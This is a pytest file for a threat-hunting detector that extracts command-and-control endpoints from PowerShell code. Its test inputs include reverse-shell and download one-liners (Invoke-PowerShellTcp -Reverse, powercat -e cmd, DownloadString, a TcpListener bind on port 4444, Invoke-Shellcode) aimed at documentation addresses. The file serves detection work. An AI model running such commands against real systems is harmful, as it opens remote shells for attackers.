import pytest

from app.hunting import c2, iocs
from app.hunting.features import scan


def contacts(text: str) -> list[str]:
    return list(c2.contacts([scan(text.encode())], iocs.extract(text)))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("$w.DownloadString('http://example.com/a')", ["http://example.com/a"]),
        ("New-Object Net.Sockets.TcpClient('192.0.2.1', 4444)", ["tcp://192.0.2.1:4444"]),
        ('New-Object System.Net.Sockets.TCPClient("example.com",443)', ["tcp://example.com:443"]),
        ("[Net.Sockets.TcpClient]::new('192.0.2.1',80)", ["tcp://192.0.2.1:80"]),
        ("$s.Connect('192.0.2.1', '80')", ["tcp://192.0.2.1:80"]),
        ("$a='192.0.2.1'; $p = 8080; $c.connect($a,$p)", ["tcp://192.0.2.1:8080"]),
        ("$c.Connect($unknown, 80)", []),
        ("New-Object Net.Sockets.UdpClient('192.0.2.1', 53)", ["udp://192.0.2.1:53"]),
        ("New-Object Net.Sockets.TcpListener([Net.IPAddress]::Any, 4444)", ["bind://0.0.0.0:4444"]),
        ("Invoke-Shellcode -Payload x -Lhost 192.0.2.1 -Lport 443", ["tcp://192.0.2.1:443"]),
        ("Invoke-PowerShellTcp -Reverse -IPAddress 192.0.2.1 -Port 99", ["tcp://192.0.2.1:99"]),
        ("powercat -c 192.0.2.1 -p 443 -e cmd", ["tcp://192.0.2.1:443"]),
        ("nslookup -q=txt a.example.com", ["dns://a.example.com"]),
        ("Resolve-DnsName -Name a.example.com -Type TXT", ["dns://a.example.com"]),
        ("[Net.Dns]::GetHostAddresses('a.example.com')", ["dns://a.example.com"]),
        ('<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">', []),
        ("Test-Connection 192.0.2.1 # only named", []),
        ("# see http://example.com/doc\niwr http://example.org/a", ["http://example.org/a"]),
        ("<# .LINK\nhttp://example.com/doc #> dir", []),
        ("'Mozilla/5.0 (compatible; bot/2.1; +http://example.com/bot.html)'", []),
        ("iwr 'http://example.com/a#top' # http://example.com/a#top", ["http://example.com/a#top"]),
    ],
)
def test_contacts(code: str, expected: list[str]) -> None:
    assert contacts(code) == expected
